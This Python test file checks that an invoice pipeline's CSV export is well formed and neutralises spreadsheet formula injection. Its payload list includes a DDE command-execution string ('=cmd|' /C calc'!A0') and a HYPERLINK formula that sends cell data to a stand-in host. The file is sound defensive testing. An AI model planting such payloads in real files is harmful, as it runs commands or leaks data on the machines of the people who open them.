"""CSV import files: RFC 4180, numbers as numbers, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from posting_office import VENDOR, MemoryOutbox, invoice

from bpo_pipeline.documents import PurchaseOrder
from bpo_pipeline.documents.fields import LineItem
from bpo_pipeline.posting.bill import make_bill
from bpo_pipeline.posting.sender import OutcomeKind, send_waiting
from bpo_pipeline.posting.targets.csv import COLUMNS, Csv, safe_text

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1",
    "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹢1", "−1", '"=1+1', "'=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)', "@=1", "a;=1+1", "a\t=1+1", "a|=1+1", "a; =cmd", 'a";=1+1;"', "a\n=1+1",
    "a\r\n=1+1", "\u2028=1", "a\u2028;=1", "\x00=1+1", "\x1f=1", "; -1", "=\n1",
]  # fmt: skip


class Memory:
    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.order: list[str] = []

    def put(self, key: str, body: bytes, content_type: str, *, if_none_match: bool = True) -> None:
        assert if_none_match
        self.order.append(key)
        self.files.setdefault(key, body)

    def get(self, key: str) -> bytes | None:
        return self.files.get(key)


def target(folder: Memory | None = None) -> Csv:
    return Csv("csv", folder=folder or Memory(), prefix="import/csv/", vendors=[VENDOR])


def cells_of(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def active(cells: list[list[str]]) -> list[str]:
    """The cells that a spreadsheet may run: what it skips in front is skipped, and numbers are no formulas."""
    skipped = "".join(map(chr, range(33))) + '\x7f\u00a0\u200b\ufeff\u2028"'
    found = []
    for row in cells:
        for text in row:
            bare = text.lstrip(skipped)
            number = text.lstrip("-").replace(".", "", 1)
            if bare[:1] and bare[0] in "=+-@＝＋－＠﹢−" and not number.isdigit():
                found.append(text)
    return found


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_active_whatever_separator_the_reader_uses(payload: str, delimiter: str) -> None:
    line = LineItem(description=payload, sku=payload, unit=payload, line_total=Decimal("90.00"))
    record = invoice(payload, purchase_order_number=payload, line_items=(line,))
    assert make_bill(record, VENDOR).lines[0].description == record.line_items[0].description

    content = target().render("key1", make_bill(record, VENDOR))

    assert active(cells_of(content, delimiter)) == []


@given(st.text(alphabet=st.sampled_from("=+-@＝＋ \t\r\n;|,\"'ab1\u200b\ufeff"), max_size=12))
def test_no_text_at_all_becomes_active(text: str) -> None:
    for delimiter in ",;\t|":
        out = io.StringIO()
        csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(["key", safe_text(text), "end"])
        assert active(cells_of(out.getvalue().encode(), delimiter)) == []


@pytest.mark.parametrize("text", ["Müller & Söhne", "A-1 Tools", "rope, 3-ply", "50 % = half", "O'Neill", "a; b", ""])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_are_bare_and_exact_and_texts_are_quoted() -> None:
    line = LineItem(description="Röpe", quantity=Decimal("1E+2"), unit_price=Decimal("0.90"), line_total=Decimal(90))
    content = target().render("key1", make_bill(invoice("0017", line_items=(line,)), VENDOR))

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    text = content.decode("utf-8-sig")
    assert ',100,"",0.90,90,9,90.00,8.10,98.10\r\n' in text
    assert '"0017"' in text
    header, row = cells_of(content)
    assert header == list(COLUMNS)
    assert dict(zip(header, row, strict=True))["description"] == "Röpe"


def test_every_row_has_all_columns_and_discount_and_shipping_are_lines() -> None:
    lines = tuple(LineItem(description=f"Item {number}", line_total=Decimal("47.50")) for number in range(2))
    record = invoice(line_items=lines, discount_total="10.00", shipping_total="5.00")

    rows = cells_of(target().render("key1", make_bill(record, VENDOR)))

    assert [len(row) for row in rows] == [len(COLUMNS)] * 5
    assert sum(Decimal(row[COLUMNS.index("line_net")]) for row in rows[1:]) == Decimal("90.00")


def send(outbox: MemoryOutbox, csv_target: Csv) -> object:
    return send_waiting(
        "nordlicht",
        "csv",
        target=csv_target,
        store=outbox,
        load_bill=outbox.load_bill,
        load_original=outbox.load_original,
        owner="test",
    )


def test_the_file_appears_after_its_original_and_its_total_is_read_back() -> None:
    folder, outbox = Memory(), MemoryOutbox()
    outbox.add(invoice(), target="csv")

    report = send(outbox, target(folder))

    assert folder.order == ["import/csv/bill-key1-original.pdf", "import/csv/bill-key1.csv"]
    assert report.count(OutcomeKind.POSTED) == 1
    acknowledgement = outbox.acknowledgements["key1"]
    assert acknowledgement.number == "import/csv/bill-key1.csv"
    assert (acknowledgement.total, acknowledgement.attachment) == (Decimal("98.10"), True)


def test_writing_twice_leaves_one_file_as_it_was() -> None:
    folder, outbox = Memory(), MemoryOutbox()
    for _ in range(2):
        outbox.add(invoice(), target="csv")
        send(outbox, target(folder))

    assert len(folder.files) == 2
    assert folder.order.count("import/csv/bill-key1.csv") == 1


def test_a_purchase_order_without_a_vendor_is_handed_on() -> None:
    order = PurchaseOrder(
        purchase_order_number="PO-1",
        issue_date=invoice().issue_date,
        currency="USD",
        net_total=Decimal("98.10"),
        gross_total=Decimal("98.10"),
    )
    folder, outbox = Memory(), MemoryOutbox(vendor_id=None)
    outbox.add(order, target="csv")

    send(outbox, target(folder))

    row = dict(zip(COLUMNS, cells_of(folder.files["import/csv/bill-key1.csv"])[1], strict=True))
    assert (row["document_type"], row["document_number"], row["gross_total"]) == ("purchase_order", "PO-1", "98.10")
